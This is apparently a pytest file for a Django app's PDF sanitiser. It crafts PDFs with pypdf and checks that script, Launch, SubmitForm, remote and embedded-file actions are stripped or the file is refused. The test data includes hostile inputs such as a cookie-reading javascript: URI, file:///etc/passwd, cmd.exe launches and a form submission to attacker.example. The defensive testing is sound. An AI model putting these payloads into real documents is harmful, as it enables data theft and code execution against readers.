"""The PDF cleaner keeps only links to a place in the document or to an http(s) or mailto address: every other
action (JavaScript, Launch, SubmitForm, ImportData, GoToR, a `javascript:` URI, a chain holding one) is removed,
and a file whose active parts survive is refused. The PDFs are crafted with pypdf, as an attacker would."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)

from groups.files import check_and_clean


def name(value):
    return NameObject(value)


def action(kind, **extra):
    entries = {name("/S"): name(kind)}
    for key, value in extra.items():
        entries[name("/" + key)] = value
    return DictionaryObject(entries)


def uri(address):
    return action("/URI", URI=TextStringObject(address))


def pdf_with_links(*actions, pages=1) -> bytes:
    """A PDF whose first page has one link annotation per action (in that order)."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    annotations = ArrayObject()
    for number, link_action in enumerate(actions):
        annotation = DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Link"),
                name("/Rect"): ArrayObject([NumberObject(0), NumberObject(number), NumberObject(10), NumberObject(10)]),
                name("/A"): writer._add_object(link_action),
            }
        )
        annotations.append(writer._add_object(annotation))
    writer.pages[0][name("/Annots")] = annotations
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def cleaned(content: bytes) -> bytes:
    return check_and_clean(SimpleUploadedFile("a.pdf", content, content_type="application/pdf")).content


def kept_actions(content: bytes) -> list:
    page = PdfReader(io.BytesIO(content)).pages[0]
    found = []
    for reference in page.get("/Annots") or []:
        link = reference.get_object().get("/A").get_object()
        found.append((link["/S"], str(link.get("/URI", ""))))
    return found


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "smb://attacker/share",
        "relative/path.html",
    ],
)
def test_a_link_to_an_address_that_is_not_web_or_mail_is_removed(address):
    clean = cleaned(pdf_with_links(uri(address), uri("https://example.org/help")))
    assert kept_actions(clean) == [("/URI", "https://example.org/help")]
    assert b"alert" not in clean and b"passwd" not in clean and b"attacker" not in clean


def test_web_mail_and_in_document_links_are_kept():
    in_document = action("/GoTo", D=ArrayObject([NumberObject(0), name("/Fit")]))
    clean = cleaned(
        pdf_with_links(
            uri("http://example.org/"), uri("HTTPS://example.org/x"), uri("mailto:help@example.org"), in_document
        )
    )
    assert kept_actions(clean) == [
        ("/URI", "http://example.org/"),
        ("/URI", "HTTPS://example.org/x"),
        ("/URI", "mailto:help@example.org"),
        ("/GoTo", ""),
    ]


@pytest.mark.parametrize(
    "dangerous",
    [
        action("/JavaScript", JS=TextStringObject("evilScript()")),
        action(
            "/Launch", F=TextStringObject("cmd.exe"), Win=DictionaryObject({name("/F"): TextStringObject("cmd.exe")})
        ),
        action("/SubmitForm", F=TextStringObject("https://attacker.example/collect")),
        action("/ImportData", F=TextStringObject("evil.fdf")),
        action("/GoToR", F=TextStringObject("//attacker/share/other.pdf"), D=ArrayObject([NumberObject(0)])),
        action("/GoToE", T=DictionaryObject({name("/R"): name("/C")})),
    ],
    ids=["javascript", "launch", "submitform", "importdata", "gotor", "gotoe"],
)
def test_a_link_that_runs_sends_or_opens_something_is_removed(dangerous):
    clean = cleaned(pdf_with_links(dangerous, uri("https://example.org/")))
    assert kept_actions(clean) == [("/URI", "https://example.org/")]
    for trace in (b"evilScript", b"cmd.exe", b"attacker", b"evil.fdf", b"/Launch", b"/SubmitForm", b"/ImportData"):
        assert trace not in clean
    assert b"/GoToR" not in clean and b"/GoToE" not in clean


def test_a_safe_link_chaining_to_a_script_is_removed():
    chained = uri("https://example.org/")
    chained[name("/Next")] = action("/JavaScript", JS=TextStringObject("evilScript()"))
    chain_in_list = uri("https://example.org/list")
    chain_in_list[name("/Next")] = ArrayObject([uri("mailto:a@example.org"), uri("javascript:alert(2)")])
    clean = cleaned(pdf_with_links(chained, chain_in_list, uri("https://example.org/fine")))
    assert kept_actions(clean) == [("/URI", "https://example.org/fine")]
    assert b"evilScript" not in clean and b"alert" not in clean


def test_a_script_uri_as_the_opening_action_is_dropped():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer._root_object[name("/OpenAction")] = writer._add_object(uri("javascript:alert(3)"))
    out = io.BytesIO()
    writer.write(out)
    clean = cleaned(out.getvalue())
    assert b"OpenAction" not in clean and b"alert" not in clean


def test_an_embedded_file_and_document_scripts_are_dropped():
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("payload.exe", b"MZ pretend executable")
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert('document script');")))
    names = writer._root_object["/Names"].get_object()
    names[name("/JavaScript")] = DictionaryObject({name("/Names"): ArrayObject([TextStringObject("opening"), script])})
    out = io.BytesIO()
    writer.write(out)
    assert "payload.exe" in PdfReader(io.BytesIO(out.getvalue())).attachments  # the crafted file really has one
    clean = cleaned(out.getvalue())
    assert not PdfReader(io.BytesIO(clean)).attachments
    assert b"pretend executable" not in clean and b"document script" not in clean
    assert b"/EmbeddedFile" not in clean and b"/JavaScript" not in clean


def test_an_action_on_a_form_field_or_outline_elsewhere_in_a_page_is_removed():
    """An action reachable from a page by another road than /Annots (here a thumbnail-like entry of the page's own
    dictionary) is still found by the walk over every object written."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    page[name("/PeerHavenExtra")] = DictionaryObject(
        {name("/A"): writer._add_object(action("/Launch", F=TextStringObject("cmd.exe")))}
    )
    out = io.BytesIO()
    writer.write(out)
    clean = cleaned(out.getvalue())
    assert b"cmd.exe" not in clean and b"/Launch" not in clean


def test_a_script_that_survives_cleaning_makes_the_file_refused():
    """A script reachable other than through an action key (here a page's own dictionary entry) is not guessed at:
    the file is refused rather than half-cleaned."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    page[name("/PeerHavenExtra")] = writer._add_object(action("/JavaScript", JS=TextStringObject("x()")))
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(ValidationError) as caught:
        cleaned(out.getvalue())
    assert "scripts or attachments" in " ".join(caught.value.message_dict["file"])


def test_other_dictionaries_named_a_or_next_are_left_alone():
    """Only an action (a dictionary with /S) is judged: a page's own /A-named entry that is not one stays."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    page[name("/PeerHavenExtra")] = DictionaryObject({name("/A"): FloatObject(0.5), name("/Next"): NullObject()})
    out = io.BytesIO()
    writer.write(out)
    clean = cleaned(out.getvalue())
    extra = PdfReader(io.BytesIO(clean)).pages[0]["/PeerHavenExtra"]
    assert float(extra["/A"]) == 0.5
